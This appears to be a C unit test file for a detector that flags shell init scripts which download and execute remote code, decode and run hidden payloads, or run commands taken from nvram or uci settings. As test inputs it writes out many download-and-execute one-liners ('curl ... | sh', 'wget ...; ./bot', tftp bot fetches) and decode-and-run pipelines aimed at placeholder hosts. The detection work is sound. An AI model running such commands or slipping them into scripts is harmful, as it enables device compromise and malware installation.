/* Commands that a script takes from elsewhere and runs. */
#include "harness.h"
#include "inspect/inspected.h"
#include "inspect/registry.h"

static struct inspected got;

/* "kind origin" of the first row, "" where there is none. */
static const char *foreign(const char *script)
{
	static char words[200];
	inspected_run(&got, &inspector_foreign_commands, "/etc/init.d/x", span_of_text(script));
	const struct fact *fact = inspected_row(&got, EVIDENCE_FOREIGN_COMMAND, 0);
	words[0] = '\0';
	if (fact)
		(void)snprintf(words, sizeof words, "%.*s %.*s", SPAN_FORMAT(inspected_text(fact, FOREIGN_COMMAND_KIND)),
			       SPAN_FORMAT(inspected_text(fact, FOREIGN_COMMAND_ORIGIN)));
	inspected_done(&got);
	return words;
}
#define FOREIGN(script, wanted) CHECK_TEXT(span_of_text(foreign("#!/bin/sh\n" script "\n")), wanted)

TEST(sees_what_is_fetched_and_run)
{
	FOREIGN("curl -fsSL http://a.example/x | sh", "fetched http://a.example/x");
	FOREIGN("wget -qO- http://a.example/x | busybox sh -s -- a", "fetched http://a.example/x");
	FOREIGN("sh -c \"$(wget -O - https://a.example/x)\"", "fetched https://a.example/x");
	FOREIGN("C=`curl http://a.example/x`\neval $C", "fetched http://a.example/x");
	FOREIGN("wget http://a.example/t -O /tmp/t\nchmod 755 /tmp/t", "fetched http://a.example/t");
	FOREIGN("curl http://a.example/t > /tmp/t && . /tmp/t", "fetched http://a.example/t");
	FOREIGN("wget http://a.example/bot; ./bot", "fetched http://a.example/bot");
	FOREIGN("tftp -g -r bot 192.0.2.1; sh bot", "fetched tftp://192.0.2.1/bot");
	FOREIGN("curl http://a.example/x | base64 -d | sh", "fetched http://a.example/x");
}

TEST(sees_what_is_decoded_or_set)
{
	FOREIGN("base64 -d /etc/x | sh", "decoded base64");
	FOREIGN("cat x | openssl enc -d -aes-128-cbc -k y | bash", "decoded openssl");
	FOREIGN("eval $(echo eA== | base64 -d)", "decoded base64");
	FOREIGN("eval \"$(nvram get startup)\"", "setting startup");
	FOREIGN("`nvram get startup`", "setting startup");
	FOREIGN("uci get a.b.c | sh", "setting a.b.c");
}

TEST(leaves_what_only_looks_like_it)
{
	FOREIGN("curl http://a.example/x > /tmp/status; cat /tmp/status", "");
	FOREIGN("curl http://127.0.0.1/x | sh", "");
	FOREIGN("curl http://a.example/x | sh -c cat", "");
	FOREIGN("curl http://a.example/x | sh /etc/reader.sh", "");
	FOREIGN("eval mode=$(nvram get mode)", "");
	FOREIGN("base64 -d x > y; sh z", "");
	FOREIGN("base64 x | sh", "");
	FOREIGN("echo ls | sh", "");
	FOREIGN("exit 0\ncurl http://a.example/x | sh", "");
	FOREIGN("# curl http://a.example/x | sh", "");
	FOREIGN("echo 'curl http://a.example/x | sh'", "");
	/* What is checked in between is what was meant. */
	FOREIGN("wget http://a.example/t -O /tmp/t\nusign -V -m /tmp/t -p key || exit 1\nsh /tmp/t", "");
}

static int64_t number(const char *script, int column)
{
	inspected_run(&got, &inspector_foreign_commands, "/etc/init.d/x", span_of_text(script));
	int64_t value = inspected_integer(inspected_row(&got, EVIDENCE_FOREIGN_COMMAND, 0), column);
	inspected_done(&got);
	return value;
}

TEST(says_whether_it_always_runs_and_is_protected)
{
	CHECK_EQUAL(number("#!/bin/sh\ncurl http://a.example/ | sh\n", FOREIGN_COMMAND_ALWAYS), 1);
	CHECK_EQUAL(number("#!/bin/sh\nstart() {\ncurl http://a.example/ | sh\n}\n", FOREIGN_COMMAND_ALWAYS), 1);
	CHECK_EQUAL(number("#!/bin/sh\nother() {\ncurl http://a.example/ | sh\n}\n", FOREIGN_COMMAND_ALWAYS), INSPECTED_NULL);
	CHECK_EQUAL(number("#!/bin/sh\n[ -f /x ] && curl http://a.example/ | sh\n", FOREIGN_COMMAND_ALWAYS), INSPECTED_NULL);
	CHECK_EQUAL(number("#!/bin/sh\ncase $1 in stop) curl http://a.example/ | sh ;; esac\n", FOREIGN_COMMAND_ALWAYS),
		    INSPECTED_NULL);
	CHECK_EQUAL(number("#!/bin/sh\ncurl https://a.example/ | sh\n", FOREIGN_COMMAND_UNPROTECTED), 0);
	CHECK_EQUAL(number("#!/bin/sh\ncurl -sk https://a.example/ | sh\n", FOREIGN_COMMAND_UNPROTECTED), 1);
	CHECK_EQUAL(number("#!/bin/sh\ncurl \"$URL$X\" | sh\n", FOREIGN_COMMAND_UNPROTECTED), INSPECTED_NULL);
}

static void downloads(int count)
{
	static char text[8192];
	size_t size = (size_t)snprintf(text, sizeof text, "#!/bin/sh\n");
	for (int i = 0; i < count; i++)
		size += (size_t)snprintf(text + size, sizeof text - size, "wget http://a.example/f%d -O /tmp/f%d\n", i, i);
	size += (size_t)snprintf(text + size, sizeof text - size, "sh /tmp/f%d\n", count - 1);
	inspected_run(&got, &inspector_foreign_commands, "/etc/init.d/x", span_of(text, size));
}

TEST(downloads_of_a_script)
{
	downloads(64);
	CHECK_EQUAL(inspected_count(&got, EVIDENCE_FOREIGN_COMMAND), 1);
	CHECK_EQUAL(got.facts.dropped, 0);
	inspected_done(&got);
	downloads(65);
	CHECK_EQUAL(inspected_count(&got, EVIDENCE_FOREIGN_COMMAND), 0);
	CHECK_EQUAL(got.facts.dropped, 1);
	inspected_done(&got);
}

TESTS(sees_what_is_fetched_and_run, sees_what_is_decoded_or_set, leaves_what_only_looks_like_it,
      says_whether_it_always_runs_and_is_protected, downloads_of_a_script)
